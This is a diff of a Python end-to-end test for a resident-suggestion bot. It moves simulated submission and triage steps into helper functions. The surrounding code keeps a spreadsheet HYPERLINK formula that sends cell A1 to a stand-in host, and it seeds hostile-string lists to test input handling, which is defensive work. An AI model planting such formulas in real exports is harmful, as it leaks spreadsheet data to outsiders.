@@ -24,6 +24,7 @@ from bot.services.container import Services
 from bot.web.board import Board, build_board_app
 from core.text import clean_text
 from tests.conftest import ADMIN_ID, seed_areas_and_roster
+from tests.e2e.steps import submit_suggestion, triage
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"详情")'
 HOSTILE = [
@@ -90,17 +91,8 @@ async def seed_hostile(sandbox: Sandbox) -> list[str]:
     await sandbox.say(DEPUTY, "/start", name="张伟")
     await sandbox.say(RESIDENT, "/start", name="王阿姨")
     typed = f"{HYPERLINK} 小区门口的路灯坏了好几个月，\x0b晚上老人出门很不安全"
-    await sandbox.say(RESIDENT, typed)
-    await sandbox.press(RESIDENT, "✅ 对，就是这类")
-    await sandbox.press(
-        RESIDENT, "莲花街道" if "莲花街道" in str(sandbox.shown[-1].buttons) else "📍 就是这里"
-    )
-    if sandbox.shown[-1].text == "哪个社区？":
-        await sandbox.press(RESIDENT, "彩田社区")
-    await sandbox.press(RESIDENT, "跳过，不发照片")
-    await sandbox.press(RESIDENT, sandbox.shown[-1].buttons[0][0])
-    await sandbox.press(DEPUTY, "报区人大常委会")
-    await sandbox.press(DEPUTY, "确定：报区人大常委会")
+    await submit_suggestion(sandbox, RESIDENT, typed)
+    await triage(sandbox, DEPUTY, "报区人大常委会")
     strings = [s.replace("\x00", "") for s in BLNS + HOSTILE]  # PostgreSQL text holds no NUL
     now = sandbox.clock.now()
     async with sandbox.runtime.session_factory() as session:
